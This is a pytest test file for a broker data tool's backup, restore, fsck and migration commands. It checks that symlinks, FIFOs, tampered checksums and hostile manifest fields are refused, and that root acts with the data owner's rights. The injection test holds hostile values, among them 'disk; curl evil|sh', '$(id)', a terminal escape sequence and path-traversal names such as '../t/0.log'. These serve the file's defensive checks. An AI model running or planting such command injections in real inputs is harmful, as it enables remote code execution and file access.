"""
Backups, checks and migrations of a data path that another user may change: a backup refuses symlinks and what is no
file, and root uses the rights of the owner. The users are made up, so that the tests need not be root.
"""

from __future__ import annotations

import json
import os
import shlex
import shutil
import stat
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path

import pytest

from nsqtw.errors import BackendError
from nsqtw.tools import owner
from nsqtw.tools.backup import copy
from nsqtw.tools.backup.backup import make_backup
from nsqtw.tools.backup.contents import CONTENTS_FILE
from nsqtw.tools.backup.restore import check_backup, put_in_place
from nsqtw.tools.fsck.command import FINDINGS
from nsqtw.tools.fsck.command import run as fsck
from nsqtw.tools.migrate_backend import run as migrate_backend
from nsqtw.tools.owner import Owner
from tests.process import NsqdProcess
from tests.tools.test_backup import bodies, flip, nsqtw

ROOT, BROKER, GROUP = 0, 1234, 5678
FILES = ["positions.db", "nsqd.dat", "manifest.json", "t/LOG"]


@pytest.fixture(scope="module")
def stored(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The data path of a broker that has stopped."""
    broker = NsqdProcess(tmp_path_factory.mktemp("stored"))
    broker.start()
    try:
        broker.create("t", "c")
        broker.publish("t", bodies(10))
        broker.stop()
    finally:
        broker.close()
    return Path(broker.data_path)


@pytest.fixture
def data_path(stored: Path, tmp_path: Path) -> Path:
    return Path(shutil.copytree(stored, tmp_path / "data"))


@pytest.fixture
def backup(data_path: Path, tmp_path: Path) -> Path:
    make_backup(str(data_path), str(tmp_path / "backup"), None)
    return tmp_path / "backup"


def file_of(directory: Path, name: str) -> Path:
    return next((directory / "t").glob("*.log")) if name == "t/LOG" else directory / name


@pytest.mark.parametrize("name", [*FILES, "t"])
def test_a_backup_follows_no_symlink(name: str, data_path: Path, tmp_path: Path) -> None:
    path = file_of(data_path, name)
    path.rename(tmp_path / "elsewhere")
    path.symlink_to(tmp_path / "elsewhere")
    with pytest.raises(BackendError, match=f"{path} is a symlink, and a backup has files only$"):
        make_backup(str(data_path), str(tmp_path / "new"), None)
    assert not list(tmp_path.glob("new*"))


@pytest.mark.parametrize("name", [*FILES, "positions.db-wal"])
def test_a_backup_has_files_only(name: str, data_path: Path, tmp_path: Path) -> None:
    """A FIFO would make it wait for ever."""
    path = file_of(data_path, name)
    path.unlink(missing_ok=True)
    os.mkfifo(path)
    with pytest.raises(BackendError, match=f"{path} is no regular file$"):
        make_backup(str(data_path), str(tmp_path / "new"), None)


def test_a_file_that_is_replaced_is_not_linked(
    data_path: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    path, other = file_of(data_path, "t/LOG"), tmp_path / "other"
    other.write_text("of another user")
    link = os.link
    monkeypatch.setattr("os.link", lambda source, target, **options: link(other, target, **options))
    with pytest.raises(BackendError, match=r"was replaced during the backup$"):
        copy._linked(str(path), str(tmp_path / "copy"), Owner.of(str(data_path)))
    assert not (tmp_path / "copy").exists()


@pytest.mark.parametrize("name", [*FILES, CONTENTS_FILE])
def test_a_restore_follows_no_symlink(name: str, backup: Path, tmp_path: Path) -> None:
    path = file_of(backup, name)
    path.rename(tmp_path / "elsewhere")
    path.symlink_to(tmp_path / "elsewhere")
    with pytest.raises(BackendError, match=f"{path} is a symlink"):
        check_backup(str(backup))


@pytest.mark.parametrize("is_mount_point", [False, True])
@pytest.mark.parametrize("name", FILES)
def test_a_restore_checks_what_it_copies(
    name: str, is_mount_point: bool, backup: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """What was changed since the first check is not restored."""
    new = tmp_path / "new"
    new.mkdir()
    monkeypatch.setattr("os.path.ismount", lambda path: is_mount_point)
    contents = check_backup(str(backup))
    flip(file_of(backup, name))
    with pytest.raises(BackendError, match=r"the backup is damaged: the checksum of .* is wrong$"):
        put_in_place(str(backup), contents, str(new), must_replace=False)
    with pytest.raises(BackendError, match="was interrupted") if is_mount_point else _nothing():
        check_start(new)


@contextmanager
def _nothing() -> Iterator[None]:
    yield


def check_start(directory: Path) -> None:
    """Do what a broker does that starts: with a part of a backup it must not."""
    from nsqtw.backends.manifest import check_backend

    check_backend(str(directory), "disk")


@pytest.mark.parametrize(
    "change",
    [
        {"backend": "disk; curl evil|sh"},
        {"created": "\x1b]0;PWN\x07"},
        {"version": "1 $(id)"},
        *({"files": {name: {"size": 0, "sha256": "0" * 64}}} for name in ("a", "a\0b", "t/x", "../t/0.log", ".ssh/id")),
    ],
)
def test_a_backups_words_are_known_words(change: dict[str, object], backup: Path, tmp_path: Path) -> None:
    contents = json.loads((backup / CONTENTS_FILE).read_text())
    (backup / CONTENTS_FILE).write_text(json.dumps({**contents, **change}))
    done = nsqtw("restore", backup, tmp_path / "new")
    assert (done.returncode, done.stdout) == (1, "")
    assert done.stderr == f"nsqtw restore: {backup / CONTENTS_FILE} is damaged\n"


def test_a_backup_of_a_backend_that_is_not_installed(backup: Path, tmp_path: Path) -> None:
    contents = json.loads((backup / CONTENTS_FILE).read_text())
    (backup / CONTENTS_FILE).write_text(json.dumps({**contents, "backend": "postgres:x"}))
    done = nsqtw("restore", backup, tmp_path / "new")
    why = "a backup of the backend 'postgres:x' cannot be used: the backend 'postgres' is not installed\n"
    assert (done.returncode, done.stdout, done.stderr) == (1, "", f"nsqtw restore: {why}")


def test_the_command_after_a_restore_is_one(backup: Path, tmp_path: Path) -> None:
    new = tmp_path / "new; id"
    done = nsqtw("restore", backup, new)
    command = done.stdout.rpartition("start nsqd with ")[2]
    assert shlex.split(command) == [f"--data-path={new}"]


# -- root


class Users:
    """The users of a process of root, and what was opened and made by which of them."""

    def __init__(self, monkeypatch: pytest.MonkeyPatch, owned: dict[Path, int]) -> None:
        self.uid, self.gid = ROOT, ROOT
        self.done: list[tuple[str, str]] = []
        """What was opened or made, and by whom."""
        self.given: list[tuple[int, int]] = []
        self._owned = owned
        open_, fstat = os.open, os.fstat

        def opened(path: str, flags: int, *words: int, **options: int) -> int:
            if not options:
                self.done.append((str(path), self.name))
            return open_(path, flags, *words, **options)

        monkeypatch.setattr("os.geteuid", lambda: self.uid)
        monkeypatch.setattr("os.getegid", lambda: self.gid)
        monkeypatch.setattr("os.seteuid", self._set_user)
        monkeypatch.setattr("os.setegid", self._set_group)
        monkeypatch.setattr("os.setuid", self._set_user)
        monkeypatch.setattr("os.setgid", self._set_group)
        monkeypatch.setattr("os.setgroups", lambda groups: None)
        monkeypatch.setattr("os.access", lambda path, mode, **options: True)
        monkeypatch.setattr("os.open", opened)
        monkeypatch.setattr("os.fchown", lambda fd, uid, gid: self.given.append((uid, gid)))
        monkeypatch.setattr(owner.Owner, "of", classmethod(self._of))
        monkeypatch.setattr("os.fstat", lambda fd: os.stat_result((*(s := fstat(fd))[:4], self.uid, *s[5:])))

    @property
    def name(self) -> str:
        return "root" if self.uid == ROOT else "broker"

    def _set_user(self, uid: int) -> None:
        assert ROOT in (uid, self.uid), "only root can do that"
        self.uid = uid

    def _set_group(self, gid: int) -> None:
        assert self.uid == ROOT, "only root can do that"
        self.gid = gid

    def _of(self, kind: type[Owner], path: str) -> Owner:
        nearest = max((one for one in self._owned if Path(path).is_relative_to(one)), key=lambda one: len(str(one)))
        uid = self._owned[nearest]
        return kind(path, uid, GROUP if uid else ROOT)

    def by(self, directory: Path) -> set[str]:
        """Who opened or made what is in a directory, the directory itself excepted."""
        return {name for path, name in self.done if Path(path).is_relative_to(directory) and Path(path) != directory}


def test_root_reads_a_data_path_as_its_owner(data_path: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    (tmp_path / "of-root").mkdir()
    users = Users(monkeypatch, {Path("/"): ROOT, data_path: BROKER})
    make_backup(str(data_path), str(tmp_path / "of-root/backup"), None)
    assert (users.by(data_path), users.by(tmp_path / "of-root/backup.partial")) == ({"broker"}, {"root"})
    assert (users.uid, users.gid) == (ROOT, ROOT)


def test_root_writes_next_to_a_data_path_as_its_owner(
    data_path: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    users = Users(monkeypatch, {Path("/"): ROOT, tmp_path: BROKER})
    make_backup(str(data_path), str(tmp_path / "backup"), None)
    assert users.by(tmp_path / "backup.partial") == users.by(data_path) == {"broker"}


@pytest.mark.parametrize("is_mount_point", [False, True])
def test_root_restores_as_the_owner_of_the_data_path(
    is_mount_point: bool, backup: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """So the broker can read it, and nothing else was written."""
    new = tmp_path / "new"
    new.mkdir()
    new.chmod(0o750)
    contents = check_backup(str(backup))
    users = Users(monkeypatch, {Path("/"): ROOT, new: BROKER, tmp_path / "new.partial": BROKER})
    monkeypatch.setattr("os.path.ismount", lambda path: is_mount_point)
    put_in_place(str(backup), contents, str(new), must_replace=False)
    assert users.by(backup) == {"root"}
    if is_mount_point:
        assert users.by(new) == {"broker"}
    else:
        assert users.by(tmp_path / "new.partial") == {"broker"}
        assert users.given == [(BROKER, GROUP)]
    assert stat.S_IMODE(new.stat().st_mode) == 0o750
    assert (users.uid, users.gid) == (ROOT, ROOT)


def test_an_owner_who_cannot_reach_the_data_path(data_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    Users(monkeypatch, {Path("/"): ROOT, data_path: BROKER})
    monkeypatch.setattr("os.access", lambda path, mode, **options: False)
    line = f"the user {BROKER}, the owner of {data_path}, cannot reach it: run nsqtw where it can"
    with pytest.raises(BackendError, match=line):
        make_backup(str(data_path), "/backup", None)


@pytest.mark.parametrize("must_repair", [False, True])
def test_root_checks_and_repairs_a_data_path_as_its_owner(
    must_repair: bool, data_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    log = file_of(data_path, "t/LOG")
    log.write_bytes(log.read_bytes()[:-1])
    users = Users(monkeypatch, {Path("/"): ROOT, data_path: BROKER})
    assert fsck(str(data_path), must_repair) == FINDINGS, "the message that was cut off is not there after a repair"
    assert (data_path / "damaged.d").exists() == must_repair
    assert users.by(data_path) == {"broker"}
    assert (users.uid, users.gid) == (BROKER, GROUP), "for good"


def test_root_migrates_a_data_path_as_its_owner(data_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    users = Users(monkeypatch, {Path("/"): ROOT, data_path: BROKER})
    assert migrate_backend(str(data_path), "disk", "sqlite") == 0
    assert users.by(data_path) == {"broker"}
    assert (users.uid, users.gid) == (BROKER, GROUP), "for good"


def test_an_owner_who_cannot_reach_the_data_path_that_is_checked(
    data_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    Users(monkeypatch, {Path("/"): ROOT, data_path: BROKER})
    monkeypatch.setattr("os.access", lambda path, mode, **options: False)
    assert (fsck(str(data_path), must_repair=False), migrate_backend(str(data_path), "disk", "sqlite")) == (1, 1)
    line = f"the user {BROKER}, the owner of {data_path}, cannot reach it: run nsqtw where it can"
    lines = capsys.readouterr().err.splitlines()
    assert [said.partition(", such as")[0] for said in lines] == [
        f"nsqtw fsck: {line}",
        f"nsqtw migrate-backend: {line}",
    ]
